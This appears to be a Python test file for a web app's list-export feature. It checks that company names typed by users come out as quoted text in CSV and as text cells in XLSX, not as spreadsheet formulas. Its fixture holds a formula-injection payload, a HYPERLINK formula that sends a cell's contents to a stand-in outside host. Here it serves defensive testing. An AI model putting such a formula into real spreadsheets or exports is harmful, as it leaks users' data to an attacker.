"""I-06: nothing a user typed becomes a formula in an exported file."""

import csv
import io
from decimal import Decimal

from openpyxl import load_workbook

from core.lists import services
from core.transfer.exporting import csv_chunks, write_xlsx

NAMES = ['=HYPERLINK("http://x.example/?d="&A2;"Tarifs")', "@SUM(1+1)"]
ROWS = [
    ["Company", "Phone", "Amount"],
    [NAMES[0], "+33 1 23 45 67 89", Decimal("-1500")],
    [NAMES[1], "+33 1 23 45 67 89", -1500],
]


def test_csv_names_start_with_a_quote_and_the_amount_stays_a_number():
    text = b"".join(csv_chunks(ROWS)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert [row[0] for row in rows[1:]] == ["'" + name for name in NAMES]
    assert rows[1][1] == "'+33 1 23 45 67 89"
    assert [row[2] for row in rows[1:]] == ["-1500", "-1500"]


def test_xlsx_text_cells_and_no_formula():
    handle = write_xlsx(ROWS)
    book = load_workbook(io.BytesIO(handle.read()))
    sheet = book.active
    for row in sheet.iter_rows(min_row=2):
        name, phone, amount = row
        assert name.data_type == "s"
        assert phone.data_type == "s" and phone.value == "+33 1 23 45 67 89"
        assert amount.data_type == "n" and amount.value == -1500
    assert [c.value for c in sheet["A"][1:]] == NAMES
    handle.close()


def test_list_export_neutralises_company_names(signed_in, dbsession, factories):
    companies = [factories.company(name) for name in NAMES]
    record_list = services.create_list(dbsession, signed_in.user, "Piège", "company")
    services.add_records(dbsession, record_list, [c.id for c in companies])
    body = signed_in.get(f"/lists/{record_list.id}/export?format=csv").body
    rows = list(
        csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";")
    )
    assert sorted(row[0] for row in rows[1:]) == sorted("'" + n for n in NAMES)
    xlsx = signed_in.get(f"/lists/{record_list.id}/export?format=xlsx").body
    sheet = load_workbook(io.BytesIO(xlsx)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    assert sorted(cell.value for cell in cells) == sorted(NAMES)
